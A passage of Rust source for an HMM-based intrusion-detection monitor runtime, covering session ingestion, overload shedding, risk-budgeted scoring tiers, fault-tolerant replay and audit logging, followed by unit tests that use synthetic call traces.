        ) {
            if let Some(victim) = self.lru_candidate() {
                self.evict(victim, SessionEnd::PressureEvicted);
            }
        }
        let idx = match self
            .live
            .get(tagged.app.as_str())
            .and_then(|sessions| sessions.get(tagged.session.as_str()))
        {
            Some(&idx) => idx,
            None => match self.open_session(&tagged.app, &tagged.session) {
                Some(idx) => idx,
                None => {
                    // No profile registered for this app: the event cannot
                    // be scored. Drop it, visibly.
                    self.metrics.unknown_app.inc();
                    return IngestStatus::UnknownApp;
                }
            },
        };
        // The hard bound is checked *before* buffering, so `pending()`
        // never exceeds `OverloadConfig.capacity` — not even transiently.
        let capacity = self.config.overload.capacity;
        let full = (capacity > 0 && self.pending_total >= capacity)
            || matches!(
                self.fault_overflow.fire(self.tick),
                Some(FaultKind::QueueOverflow)
            );
        let mut status = IngestStatus::Admitted;
        let fact = self.slots[idx].scorer.digest(&tagged.event);
        if full {
            if self.config.overload.shed_policy == ShedPolicy::DropNewest
                && !self.protected(idx)
                && !fact.is_dangerous()
            {
                // Shed: the event arrived (it counts and keeps the
                // session warm) but is never scored.
                let slot = &mut self.slots[idx];
                slot.events += 1;
                slot.last_touch = self.tick;
                self.metrics.shed_events.inc();
                return IngestStatus::Shed;
            }
            self.metrics.backpressure_flushes.inc();
            self.flush();
            status = IngestStatus::Backpressured;
        }
        let slot = &mut self.slots[idx];
        slot.pending.push(fact);
        slot.events += 1;
        slot.last_touch = self.tick;
        self.pending_total += 1;
        status
    }

    /// Sessions the shed policy may never drop events from: unarmed
    /// sessions (no tier ladder bounds the loss) and sessions holding the
    /// full tier — the floor class of alarmed, escalated, and brand-new
    /// sessions.
    fn protected(&self, idx: usize) -> bool {
        let state = &self.slots[idx].state;
        !state.tier_armed() || state.tier() == ScoringTier::Full
    }

    /// Ingests a whole stream in order. Equivalent to calling
    /// [`MonitorRuntime::ingest`] per event, but the `monitor.events`
    /// counter settles once at the end of the stream instead of ticking
    /// per event.
    pub fn ingest_stream(&mut self, stream: &[TaggedCall]) {
        self.metrics.events.add(stream.len() as u64);
        for tagged in stream {
            self.ingest_inner(tagged);
        }
    }

    /// Scores every buffered event: idle sessions are finalized first,
    /// then the remaining per-session batches replay across the pool
    /// (each into a clone of its session state, committed serially in
    /// arrival order on success — a retried panic never double-pushes and
    /// never reorders the audit log).
    pub fn flush(&mut self) {
        if self.config.idle_timeout > 0 {
            let mut idle: Vec<usize> = self
                .live
                .values()
                .flat_map(HashMap::values)
                .copied()
                .filter(|&i| {
                    self.tick.saturating_sub(self.slots[i].last_touch) >= self.config.idle_timeout
                })
                .collect();
            idle.sort_unstable();
            for idx in idle {
                self.evict(idx, SessionEnd::IdleEvicted);
            }
        }
        let mut work: Vec<usize> = self
            .live
            .values()
            .flat_map(HashMap::values)
            .copied()
            .filter(|&i| !self.slots[i].pending.is_empty())
            .collect();
        work.sort_unstable();
        if work.is_empty() {
            return;
        }
        self.metrics.flushes.inc();
        self.flush_seq += 1;
        self.metrics.flush_batch_sessions.set(work.len() as i64);
        self.assign_tiers(&work);
        // One registry read per app per flush, not per session.
        let mut epochs: HashMap<&str, u64> = HashMap::new();
        for &idx in &work {
            let slot = &self.slots[idx];
            let current = *epochs.entry(slot.app.as_str()).or_insert_with(|| {
                self.profiles
                    .current(&slot.app)
                    .map(|e| e.epoch())
                    .unwrap_or(0)
            });
            if current > slot.epoch {
                self.metrics.epoch_pins.add(slot.pending.len() as u64);
            }
        }
        let this = &*self;
        // A one-worker pool (or a single batch) gains nothing from the
        // rayon round-trip; replay inline and skip the cross-thread hop.
        let single = work.len() == 1
            || match &self.pool {
                Some(pool) => pool.current_num_threads() <= 1,
                None => rayon::current_num_threads() <= 1,
            };
        let outcomes: Vec<(usize, ReplayOutcome)> = {
            // The flush span covers the scoring fan-out; the serial commit
            // loop below opens its own per-session spans.
            let _span = self.tracer.is_enabled().then(|| {
                self.tracer.enter_with(
                    "monitor/flush",
                    SpanContext {
                        batch: self.flush_seq,
                        shard: self.shard_id,
                        ..SpanContext::default()
                    },
                )
            });
            if single {
                work.iter()
                    .map(|&idx| (idx, this.replay_guarded(idx)))
                    .collect()
            } else {
                this.run(|| {
                    work.par_iter()
                        .map(|&idx| (idx, this.replay_guarded(idx)))
                        .collect()
                })
            }
        };
        // Commit serially, in arrival order (`work` is sorted and the
        // pipeline preserves it).
        for (idx, outcome) in outcomes {
            self.commit(idx, outcome);
        }
    }

    /// The risk-budget scheduler: re-evaluates every working session's
    /// scoring tier at the serial flush boundary — on the ingest clock,
    /// never inside a worker — so assignments are bit-identical at any
    /// thread count. No-op while the ladder is disarmed (`budget == 0`)
    /// or outside incremental mode.
    ///
    /// Risk has three inputs (after Grushka-Cohen et al.: allocate the
    /// scoring budget by per-session risk, not uniformly):
    ///
    /// * the **floor class** holds the full tier unconditionally —
    ///   sessions that already alarmed or self-escalated, sessions still
    ///   inside their first window (the new-session prior: an unknown
    ///   session is assumed risky), and sessions of an app whose
    ///   [`HealthMonitor`](crate::resilience::HealthMonitor) is already
    ///   at or above [`Health::Degraded`];
    /// * everything else ranks by **margin** — last emitted score minus
    ///   threshold, ascending, ties by arrival — so sessions scoring
    ///   closest to the threshold get scrutinized first;
    /// * the **budget walk**: full tier while cumulative pending events
    ///   fit the budget, the beam tier for the next `budget/2` events,
    ///   spot-check for the rest. When total pending fits the budget
    ///   everyone lands back at full — recovery lowers the ladder
    ///   automatically.
    ///
    /// Crossing into overload (total pending above budget) degrades the
    /// health of every app in the batch once per episode, in sorted app
    /// order; draining back under budget closes the episode.
    fn assign_tiers(&mut self, work: &[usize]) {
        let budget = self.config.overload.budget;
        if budget == 0 || self.config.mode != ScoringMode::Incremental {
            return;
        }
        let mut spent = 0usize;
        let mut ranked: Vec<(u8, f64, usize)> = Vec::with_capacity(work.len());
        for &idx in work {
            let slot = &self.slots[idx];
            let window = slot.scorer.profile().window;
            let degraded = self
                .profiles
                .health(&slot.app)
                .is_some_and(|h| h.state() >= Health::Degraded);
            let floor = slot.state.has_alarmed()
                || slot.state.escalations() > 0
                || slot.state.seen() < window;
            if floor {
                spent += slot.pending.len();
                self.set_tier(idx, ScoringTier::Full);
            } else {
                // Degraded-app sessions rank ahead of healthy ones at
                // equal margin: the app is already absorbing faults, so
                // its sessions get the benefit of full scoring first.
                ranked.push((u8::from(!degraded), slot.state.risk_margin(), idx));
            }
        }
        ranked.sort_by(|a, b| {
            a.0.cmp(&b.0)
                .then(a.1.total_cmp(&b.1))
                .then(self.slots[a.2].arrival.cmp(&self.slots[b.2].arrival))
        });
        let beam_band = budget.div_ceil(2);
        let mut beam_spent = 0usize;
        for &(_, _, idx) in &ranked {
            let cost = self.slots[idx].pending.len();
            let tier = if spent + cost <= budget {
                spent += cost;
                ScoringTier::Full
            } else if beam_spent + cost <= beam_band {
                beam_spent += cost;
                ScoringTier::BeamPruned
            } else {
                ScoringTier::SpotCheck
            };
            self.set_tier(idx, tier);
        }
        let total: usize = work.iter().map(|&i| self.slots[i].pending.len()).sum();
        let overloaded = total > budget;
        self.metrics.overload_active.set(i64::from(overloaded));
        if overloaded && !self.overload_episode {
            self.overload_episode = true;
            self.metrics.overload_episodes.inc();
            // Sorted app order: FnvMap iteration must never order an
            // externally visible effect.
            let mut apps: Vec<&str> = work.iter().map(|&i| self.slots[i].app.as_str()).collect();
            apps.sort_unstable();
            apps.dedup();
            for app in apps {
                if let Some(health) = self.profiles.health(app) {
                    health.degrade(&format!(
                        "ingest overload: {total} pending events exceed scoring budget {budget}"
                    ));
                }
            }
        } else if !overloaded {
            self.overload_episode = false;
        }
    }

    /// Applies one scheduler decision: the session may override a
    /// demotion (alarmed sessions are pinned at full — the starvation
    /// floor), so the recorded history carries the tier actually in
    /// force.
    fn set_tier(&mut self, idx: usize, tier: ScoringTier) {
        let slot = &mut self.slots[idx];
        slot.state.assign_tier(tier);
        let assigned = slot.state.tier();
        slot.tiers.push(assigned);
        match assigned {
            ScoringTier::Full => self.metrics.tier_full_assigned.inc(),
            ScoringTier::BeamPruned => self.metrics.tier_beam_assigned.inc(),
            ScoringTier::SpotCheck => self.metrics.tier_spot_assigned.inc(),
        }
    }

    /// Closes the stream: flushes everything buffered, finalizes every
    /// live session, and returns one report per session slot, in arrival
    /// order — evicted and failed sessions included, with their `end`
    /// reason.
    pub fn finish(mut self) -> Vec<SessionReport> {
        self.flush();
        let mut live: Vec<usize> = self
            .live
            .values()
            .flat_map(HashMap::values)
            .copied()
            .collect();
        live.sort_unstable();
        for idx in live {
            if self.slots[idx].end.is_none() {
                self.close_slot(idx, SessionEnd::Finished);
            }
        }
        // `monitor.queue.depth` is a run-lifetime high-water mark now —
        // finishing must not erase it.
        self.slots
            .into_iter()
            .map(|slot| {
                let verdict = slot
                    .alerts
                    .iter()
                    .map(|a| a.flag)
                    .max()
                    .unwrap_or(Flag::Normal);
                let mut kernel = slot.scorer.status().clone();
                kernel.gap_bound_micronats = gap_micronats(slot.state.gap_bound());
                SessionReport {
                    app: slot.app,
                    session: slot.session,
                    arrival: slot.arrival,
                    epoch: slot.epoch,
                    kernel,
                    events: slot.events,
                    alerts: slot.alerts,
                    verdict,
                    end: slot.end.unwrap_or(SessionEnd::Finished),
                    tier: slot.state.tier(),
                    tiers: slot.tiers,
                    escalations: slot.state.escalations(),
                }
            })
            .collect()
    }

    /// Admits a session: resolves the app's current epoch (pinning it),
    /// evicting the LRU session first if the table is full. `None` when
    /// the app has no registered profile.
    fn open_session(&mut self, app: &str, session: &str) -> Option<usize> {
        let epoch = self.profiles.current(app)?;
        if self.config.max_sessions > 0 && self.sessions_active() >= self.config.max_sessions {
            if let Some(victim) = self.lru_candidate() {
                self.evict(victim, SessionEnd::PressureEvicted);
            }
        }
        let scorer = self
            .scorers
            .entry((app.to_string(), epoch.epoch()))
            .or_insert_with(|| epoch.scorer().with_metrics(self.detect_metrics.clone()))
            .clone();
        let mut state = SessionScorer::new(&scorer, self.config.mode);
        if self.config.overload.budget > 0 {
            state = state.with_tier_support(
                &scorer,
                self.config.overload.beam,
                self.config.overload.spot_every,
            );
        }
        if let Some(config) = self.forensics {
            state = state.with_forensics(config);
        }
        let arrival = self.slots.len();
        self.slots.push(SessionSlot {
            app: app.to_string(),
            session: session.to_string(),
            arrival,
            epoch: epoch.epoch(),
            scorer,
            state,
            pending: Vec::new(),
            alerts: Vec::new(),
            events: 0,
            last_touch: self.tick,
            end: None,
            tiers: Vec::new(),
        });
        self.live
            .entry(app.to_string())
            .or_default()
            .insert(session.to_string(), arrival);
        self.metrics.sessions_opened.inc();
        self.metrics
            .sessions_active
            .set(self.sessions_active() as i64);
        Some(arrival)
    }

    /// The least-recently-active live session (ties broken by arrival).
    fn lru_candidate(&self) -> Option<usize> {
        self.live
            .values()
            .flat_map(HashMap::values)
            .copied()
            .min_by_key(|&i| (self.slots[i].last_touch, self.slots[i].arrival))
    }

    /// Evicts one session: its buffered events are scored (serially —
    /// evictions happen at deterministic stream positions) and the session
    /// is finalized with `end`.
    fn evict(&mut self, idx: usize, end: SessionEnd) {
        if !self.slots[idx].pending.is_empty() {
            let outcome = self.replay_guarded(idx);
            self.commit(idx, outcome);
        }
        if self.slots[idx].end.is_none() {
            self.close_slot(idx, end);
        }
    }

    /// Replays one session's pending batch into a clone of its state,
    /// under panic isolation and bounded retry (keyed by arrival index, so
    /// an injected fault schedule replays identically at any thread
    /// count). Returns the advanced state and the windows it emitted.
    fn replay_guarded(&self, idx: usize) -> ReplayOutcome {
        let slot = &self.slots[idx];
        let timer = self.metrics.stage_score_ns.is_enabled().then(Instant::now);
        let _span = self.tracer.is_enabled().then(|| {
            self.tracer.enter_with(
                "monitor/score",
                SpanContext {
                    app: slot.app.clone(),
                    session: slot.session.clone(),
                    epoch: slot.epoch,
                    batch: self.flush_seq,
                    shard: self.shard_id,
                },
            )
        });
        let mut attempts = 0u32;
        let outcome = loop {
            let outcome = catch_unwind(AssertUnwindSafe(|| {
                if matches!(
                    self.fault_swap.fire(slot.arrival as u64),
                    Some(FaultKind::Panic)
                ) {
                    panic!(
                        "fault-injected panic at {} (session `{}`, arrival {})",
                        sites::MONITOR_SWAP,
                        slot.session,
                        slot.arrival
                    );
                }
                let mut state = slot.state.clone();
                let mut alerts = Vec::with_capacity(slot.pending.len());
                state.push_facts(&slot.scorer, &slot.pending, &slot.session, &mut alerts);
                (state, alerts)
            }));
            match outcome {
                Ok(done) => {
                    if attempts > 0 {
                        self.res_metrics.traces_recovered.inc();
                        if let Some(health) = self.profiles.health(&slot.app) {
                            health.degrade(&format!(
                                "session `{}` recovered after {attempts} retr{}",
                                slot.session,
                                if attempts == 1 { "y" } else { "ies" }
                            ));
                        }
                    }
                    break Ok(done);
                }
                Err(payload) => {
                    self.res_metrics.worker_panics.inc();
                    let message = panic_message(payload.as_ref());
                    if attempts >= self.retry.max_retries {
                        self.res_metrics.traces_failed.inc();
                        break Err(message);
                    }
                    attempts += 1;
                    self.res_metrics.trace_retries.inc();
                    let backoff = self.retry.backoff * 2u32.saturating_pow(attempts - 1);
                    if !backoff.is_zero() {
                        std::thread::sleep(backoff);
                    }
                }
            }
        };
        if let Some(t0) = timer {
            self.metrics
                .stage_score_ns
                .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
        outcome
    }

    /// Applies one replay outcome: on success the advanced state replaces
    /// the slot's, its alerts are recorded (and audited, serially, here —
    /// never inside a worker); on failure the session closes as `Failed`
    /// and its app's health goes to Failed. Forensic reports are drained
    /// here too — from the advanced state, so a retried panic (whose clone
    /// was discarded) cannot duplicate them — and paired with their alarms
    /// in emit order.
    fn commit(&mut self, idx: usize, outcome: ReplayOutcome) {
        let timer = self.metrics.stage_commit_ns.is_enabled().then(Instant::now);
        match outcome {
            Ok((mut state, alerts)) => {
                let _span = self.tracer.is_enabled().then(|| {
                    let slot = &self.slots[idx];
                    self.tracer.enter_with(
                        "monitor/commit",
                        SpanContext {
                            app: slot.app.clone(),
                            session: slot.session.clone(),
                            epoch: slot.epoch,
                            batch: self.flush_seq,
                            shard: self.shard_id,
                        },
                    )
                });
                let reports = state.take_forensics();
                self.metrics.forensics_reports.add(reports.len() as u64);
                let mut reports = reports.into_iter();
                // Tier stamps are per-alarm in emit order, exactly like
                // forensic reports — drained from the advanced state so a
                // retried panic cannot duplicate them.
                let mut stamps = state.take_tier_stamps().into_iter();
                for alert in &alerts {
                    let (forensics, stamp) = if alert.is_alarm() {
                        (reports.next(), stamps.next())
                    } else {
                        (None, None)
                    };
                    self.audit_alarm(idx, alert, forensics, stamp);
                }
                let slot = &mut self.slots[idx];
                self.pending_total -= slot.pending.len();
                slot.pending.clear();
                slot.state = state;
                slot.alerts.extend(alerts);
            }
            Err(message) => {
                let slot = &mut self.slots[idx];
                self.pending_total -= slot.pending.len();
                slot.pending.clear();
                if let Some(health) = self.profiles.health(&slot.app) {
                    health.fail(&format!(
                        "session `{}` unrecoverable: {message}",
                        slot.session
                    ));
                }
                self.close_slot(idx, SessionEnd::Failed(message));
            }
        }
        if let Some(t0) = timer {
            self.metrics
                .stage_commit_ns
                .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
    }

    /// Finalizes a session (emitting the short window of a trace that
    /// never filled one, except after a failure) and removes it from the
    /// live table.
    fn close_slot(&mut self, idx: usize, end: SessionEnd) {
        let timer = self
            .metrics
            .stage_finalize_ns
            .is_enabled()
            .then(Instant::now);
        if !matches!(end, SessionEnd::Failed(_)) {
            let finale = {
                let slot = &mut self.slots[idx];
                let scorer = slot.scorer.clone();
                let session = slot.session.clone();
                slot.state.finalize(&scorer, &session)
            };
            if let Some(alert) = finale {
                // Finalize emits at most one window, so at most one report
                // (and one tier stamp) is pending — everything earlier
                // drained at commit.
                let forensics = {
                    let mut reports = self.slots[idx].state.take_forensics();
                    self.metrics.forensics_reports.add(reports.len() as u64);
                    reports.pop()
                };
                let stamp = self.slots[idx].state.take_tier_stamps().pop();
                self.audit_alarm(idx, &alert, forensics, stamp);
                self.slots[idx].alerts.push(alert);
            }
        }
        self.slots[idx].end = Some(end.clone());
        let slot = &self.slots[idx];
        let emptied = match self.live.get_mut(slot.app.as_str()) {
            Some(sessions) => {
                sessions.remove(slot.session.as_str());
                sessions.is_empty()
            }
            None => false,
        };
        if emptied {
            self.live.remove(slot.app.as_str());
        }
        match end {
            SessionEnd::Finished => self.metrics.sessions_finished.inc(),
            SessionEnd::IdleEvicted => self.metrics.evictions_idle.inc(),
            SessionEnd::PressureEvicted => self.metrics.evictions_lru.inc(),
            SessionEnd::Failed(_) => {}
        }
        self.metrics
            .sessions_active
            .set(self.sessions_active() as i64);
        if let Some(t0) = timer {
            self.metrics
                .stage_finalize_ns
                .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
    }

    /// Writes one alarm to the audit log, stamped with the session's app
    /// id, pinned epoch, (when the flight recorder is armed) the alarm's
    /// forensic report, and (when the tier ladder is armed) its tier and
    /// escalation provenance.
    fn audit_alarm(
        &self,
        idx: usize,
        alert: &Alert,
        forensics: Option<ForensicReport>,
        stamp: Option<TierStamp>,
    ) {
        let Some(audit) = &self.audit else {
            return;
        };
        if !alert.is_alarm() {
            return;
        }
        let slot = &self.slots[idx];
        let _span = self.tracer.is_enabled().then(|| {
            self.tracer.enter_with(
                "monitor/audit",
                SpanContext {
                    app: slot.app.clone(),
                    session: slot.session.clone(),
                    epoch: slot.epoch,
                    batch: self.flush_seq,
                    shard: self.shard_id,
                },
            )
        });
        let mut record =
            audit_record_from_alert(alert, &slot.session, &slot.scorer.status().effective);
        record.app = slot.app.clone();
        record.epoch = slot.epoch;
        record.forensics = forensics;
        if let Some(stamp) = stamp {
            record.tier = Some(stamp.tier.label().to_string());
            record.escalation = stamp.escalation;
            record.gap_bound_micronats = Some(gap_micronats(stamp.gap_bound));
        }
        audit.record(record);
    }

    /// Runs `op` inside the explicit pool when one is configured.
    fn run<R>(&self, op: impl FnOnce() -> R) -> R {
        match &self.pool {
            Some(pool) => pool.install(op),
            None => op(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use crate::detect::KernelConfig;
    use crate::profile::Profile;
    use crate::resilience::{FaultPlan, Health, Trigger};
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use adprom_trace::{interleave, CallEvent};
    use std::collections::{BTreeMap, BTreeSet};

    fn quiet_injected_panics() {
        static ONCE: std::sync::Once = std::sync::Once::new();
        ONCE.call_once(|| {
            let default = std::panic::take_hook();
            std::panic::set_hook(Box::new(move |info| {
                let injected = info
                    .payload()
                    .downcast_ref::<String>()
                    .is_some_and(|s| s.contains("fault-injected"));
                if !injected {
                    default(info);
                }
            }));
        });
    }

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn cyclic_profile(app: &str, threshold: f64) -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: app.into(),
            alphabet,
            hmm,
            window: 3,
            threshold,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    fn trace_of(names: &[&str]) -> Vec<CallEvent> {
        names.iter().map(|n| event(n, "main")).collect()
    }

    fn two_app_registry() -> Arc<ProfileRegistry> {
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        registry
            .register("shop", cyclic_profile("shop", -1.0))
            .unwrap();
        Arc::new(registry)
    }

    fn demo_sessions() -> Vec<(String, String, Vec<CallEvent>)> {
        vec![
            (
                "bank".into(),
                "s-0".into(),
                trace_of(&["a", "b", "c_Q7", "a", "b", "c_Q7"]),
            ),
            (
                "bank".into(),
                "s-1".into(),
                trace_of(&["a", "evil_exfil", "c_Q7"]),
            ),
            ("shop".into(), "s-0".into(), trace_of(&["b", "a", "a", "b"])),
            ("shop".into(), "s-7".into(), trace_of(&["a", "b"])),
        ]
    }

    #[test]
    fn interleaved_stream_matches_isolated_engine_scans() {
        let profiles = two_app_registry();
        let sessions = demo_sessions();
        let stream = interleave(&sessions, 0xFEED);
        for mode in [ScoringMode::ExactWindows, ScoringMode::Incremental] {
            let mut runtime =
                MonitorRuntime::new(Arc::clone(&profiles)).with_config(RuntimeConfig {
                    mode,
                    ..RuntimeConfig::default()
                });
            runtime.ingest_stream(&stream);
            let reports = runtime.finish();
            assert_eq!(reports.len(), sessions.len());
            for report in &reports {
                let (_, _, trace) = sessions
                    .iter()
                    .find(|(app, session, _)| *app == report.app && *session == report.session)
                    .expect("known session");
                let scorer = profiles.scorer(&report.app).unwrap();
                let expected = match mode {
                    ScoringMode::ExactWindows => scorer.scan(trace, &report.session),
                    ScoringMode::Incremental => scorer.scan_incremental(trace, &report.session).0,
                };
                assert_eq!(
                    format!("{:?}", report.alerts),
                    format!("{expected:?}"),
                    "{}/{} ({mode:?})",
                    report.app,
                    report.session
                );
                assert_eq!(report.end, SessionEnd::Finished);
                assert_eq!(report.events, trace.len());
            }
            // Arrival order is first-appearance order on the stream.
            let mut seen = std::collections::HashSet::new();
            let first_appearance: Vec<(String, String)> = stream
                .iter()
                .filter(|t| seen.insert((t.app.clone(), t.session.clone())))
                .map(|t| (t.app.clone(), t.session.clone()))
                .collect();
            let report_order: Vec<(String, String)> = reports
                .iter()
                .map(|r| (r.app.clone(), r.session.clone()))
                .collect();
            assert_eq!(report_order, first_appearance);
        }
    }

    #[test]
    fn hot_swap_mid_stream_pins_inflight_sessions() {
        let obs = Registry::new();
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let profiles = Arc::new(registry);
        let mut runtime = MonitorRuntime::new(Arc::clone(&profiles)).with_registry(&obs);

        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        // s-old opens on epoch 1...
        runtime.ingest(&tag("s-old", "a"));
        runtime.ingest(&tag("s-old", "b"));
        // ...the profile hot-swaps to a flag-everything threshold...
        profiles
            .register("bank", cyclic_profile("bank", 0.0))
            .unwrap();
        // ...s-old keeps streaming (still epoch 1), s-new opens on epoch 2.
        runtime.ingest(&tag("s-old", "c_Q7"));
        runtime.ingest(&tag("s-new", "a"));
        runtime.ingest(&tag("s-new", "b"));
        runtime.ingest(&tag("s-new", "c_Q7"));
        let reports = runtime.finish();

        assert_eq!(reports[0].session, "s-old");
        assert_eq!(reports[0].epoch, 1);
        assert_eq!(reports[1].session, "s-new");
        assert_eq!(reports[1].epoch, 2);
        // s-old scored on the old threshold: the cycle is normal. s-new on
        // the new threshold: everything is flagged.
        assert_eq!(reports[0].verdict, Flag::Normal);
        assert_ne!(reports[1].verdict, Flag::Normal);
        // All of s-old's events were buffered when the swap landed, so all
        // of them count as epoch-pinned.
        let snap = obs.snapshot();
        assert_eq!(snap.counter("monitor.epoch_pins"), Some(3));
        assert_eq!(snap.counter("monitor.sessions.opened"), Some(2));
        // The queue gauge is a high-water mark: all 6 events were
        // buffered (nothing flushed before `finish`), and finishing does
        // not erase the peak.
        assert_eq!(snap.gauge("monitor.queue.depth"), Some(6));
    }

    #[test]
    fn capacity_bound_evicts_lru_and_reopens_deterministically() {
        let obs = Registry::new();
        let profiles = two_app_registry();
        let mut runtime = MonitorRuntime::new(profiles)
            .with_registry(&obs)
            .with_config(RuntimeConfig {
                max_sessions: 1,
                ..RuntimeConfig::default()
            });
        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        runtime.ingest(&tag("s-0", "a"));
        runtime.ingest(&tag("s-0", "b"));
        runtime.ingest(&tag("s-0", "c_Q7"));
        // Admitting s-1 evicts s-0 (table holds one session).
        runtime.ingest(&tag("s-1", "a"));
        // s-0 returns: a fresh slot, evicting s-1 in turn.
        runtime.ingest(&tag("s-0", "a"));
        let reports = runtime.finish();

        assert_eq!(reports.len(), 3);
        assert_eq!(
            (reports[0].session.as_str(), reports[0].end.clone()),
            ("s-0", SessionEnd::PressureEvicted)
        );
        assert_eq!(reports[0].events, 3);
        assert_eq!(
            (reports[1].session.as_str(), reports[1].end.clone()),
            ("s-1", SessionEnd::PressureEvicted)
        );
        assert_eq!(
            (reports[2].session.as_str(), reports[2].end.clone()),
            ("s-0", SessionEnd::Finished)
        );
        assert_eq!(reports[2].events, 1);
        // The evicted full trace still scored: the cyclic window is one
        // whole alert (window == trace length == 3).
        assert_eq!(reports[0].alerts.len(), 1);
        assert_eq!(obs.snapshot().counter("monitor.evictions.lru"), Some(2));
    }

    #[test]
    fn idle_sessions_finalize_at_flush_boundaries() {
        let obs = Registry::new();
        let profiles = two_app_registry();
        let mut runtime = MonitorRuntime::new(profiles)
            .with_registry(&obs)
            .with_config(RuntimeConfig {
                idle_timeout: 3,
                ..RuntimeConfig::default()
            });
        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        runtime.ingest(&tag("s-idle", "a"));
        for _ in 0..4 {
            runtime.ingest(&tag("s-busy", "a"));
        }
        runtime.flush();
        assert_eq!(runtime.sessions_active(), 1, "idle session closed");
        let reports = runtime.finish();
        assert_eq!(reports[0].session, "s-idle");
        assert_eq!(reports[0].end, SessionEnd::IdleEvicted);
        // A short trace still emits its single short window at eviction.
        assert_eq!(reports[0].alerts.len(), 1);
        assert_eq!(reports[1].end, SessionEnd::Finished);
        assert_eq!(obs.snapshot().counter("monitor.evictions.idle"), Some(1));
    }

    #[test]
    fn unknown_app_events_are_dropped_and_counted() {
        let obs = Registry::new();
        let profiles = two_app_registry();
        let mut runtime = MonitorRuntime::new(profiles).with_registry(&obs);
        runtime.ingest(&TaggedCall {
            app: "nobody".into(),
            session: "s-0".into(),
            event: event("a", "main"),
        });
        assert_eq!(runtime.sessions_active(), 0);
        let reports = runtime.finish();
        assert!(reports.is_empty());
        assert_eq!(obs.snapshot().counter("monitor.unknown_app"), Some(1));
    }

    #[test]
    fn pressure_fault_point_forces_deterministic_eviction() {
        let profiles = two_app_registry();
        let injector = FaultPlan::new(7)
            .inject(
                sites::MONITOR_PRESSURE,
                FaultKind::EvictSession,
                Trigger::OnceForKeys([3u64].into()),
            )
            .arm();
        let mut runtime = MonitorRuntime::new(profiles).with_faults(&injector);
        let tag = |session: &str, name: &str| TaggedCall {
            app: "bank".into(),
            session: session.into(),
            event: event(name, "main"),
        };
        runtime.ingest(&tag("s-0", "a")); // tick 1
        runtime.ingest(&tag("s-1", "a")); // tick 2
        runtime.ingest(&tag("s-1", "b")); // tick 3: s-0 (LRU) force-evicted
        let reports = runtime.finish();
        assert_eq!(injector.injected(sites::MONITOR_PRESSURE), 1);
        assert_eq!(reports[0].session, "s-0");
        assert_eq!(reports[0].end, SessionEnd::PressureEvicted);
        assert_eq!(reports[1].end, SessionEnd::Finished);
    }

    #[test]
    fn alarm_audit_records_carry_forensics_and_benign_sessions_produce_none() {
        use adprom_obs::{AuditLog, MemoryAuditSink};
        let obs = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(sink.clone() as Arc<dyn adprom_obs::AuditSink>));
        let profiles = two_app_registry();
        let mut runtime = MonitorRuntime::new(profiles)
            .with_registry(&obs)
            .with_audit(audit)
            .with_forensics(crate::scorer::ForensicsConfig::default());
        let stream = interleave(&demo_sessions(), 0xFEED);
        runtime.ingest_stream(&stream);
        let reports = runtime.finish();
        let alarm_total: usize = reports.iter().map(|r| r.alarms().count()).sum();
        assert!(alarm_total > 0, "demo sessions include an attack");
        let records = sink.records();
        assert_eq!(records.len(), alarm_total);
        for record in &records {
            let forensics = record.forensics.as_ref().expect("every alarm explained");
            assert!(!forensics.top_deviant.is_empty());
            assert_eq!(
                forensics.alert_delta(),
                Some(record.log_likelihood - record.threshold)
            );
            assert_eq!(
                forensics.attributed_log_likelihood.to_bits(),
                record.log_likelihood.to_bits(),
                "exact mode attributes the audited score itself"
            );
        }
        let snap = obs.snapshot();
        assert_eq!(
            snap.counter("monitor.forensics.reports"),
            Some(alarm_total as u64)
        );

        // A purely benign stream builds no reports at all.
        let obs2 = Registry::new();
        let sink2 = Arc::new(MemoryAuditSink::new());
        let mut benign = MonitorRuntime::new(two_app_registry())
            .with_registry(&obs2)
            .with_audit(Arc::new(AuditLog::new(
                sink2.clone() as Arc<dyn adprom_obs::AuditSink>
            )))
            .with_forensics(crate::scorer::ForensicsConfig::default());
        for e in trace_of(&["a", "b", "c_Q7", "a", "b", "c_Q7"]) {
            benign.ingest(&TaggedCall {
                app: "bank".into(),
                session: "s-ok".into(),
                event: e,
            });
        }
        let reports = benign.finish();
        assert_eq!(reports[0].verdict, Flag::Normal);
        assert!(sink2.records().is_empty());
        assert_eq!(
            obs2.snapshot().counter("monitor.forensics.reports"),
            Some(0)
        );
    }

    #[test]
    fn tracer_spans_carry_session_context_through_the_pipeline() {
        use adprom_obs::{RingSink, SpanSink, Tracer};
        let span_registry = Registry::new();
